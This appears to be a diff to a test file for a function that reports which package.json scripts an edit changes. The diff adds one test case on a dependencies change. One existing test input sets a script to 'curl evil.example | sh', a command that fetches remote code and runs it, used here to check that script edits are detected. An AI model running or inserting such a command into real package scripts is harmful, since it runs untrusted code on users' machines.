@@ -38,6 +38,7 @@ describe("the scripts that an edit may change, by its texts alone", () => {
     expect(editedScriptNames('"zod": "^3.1.0"', '"zod": "^3.1.0",\n    "left-pad": "1.0.0"')).toEqual([]);
     expect(editedScriptNames('  "version": "1.0.0",', '  "version": "1.0.1-rc.1",')).toEqual([]);
     expect(editedScriptNames('"private": true', '"private": false')).toEqual([]);
+    expect(editedScriptNames('"dependencies": {}', '"dependencies": { "zod": "^4.0.0" }')).toEqual([]);
     expect(editedScriptNames('"test": "vitest"', '"test": "curl evil.example | sh"')).toEqual(["test"]);
     expect(editedScriptNames('"scripts": {\n  "a": "x",\n', '"scripts": {\n  "a": "y",\n')).toEqual(["a"]);
     expect(editedScriptNames('"te\\u0073t": "a"', '"te\\u0073t": "b"')).toEqual(["test"]);
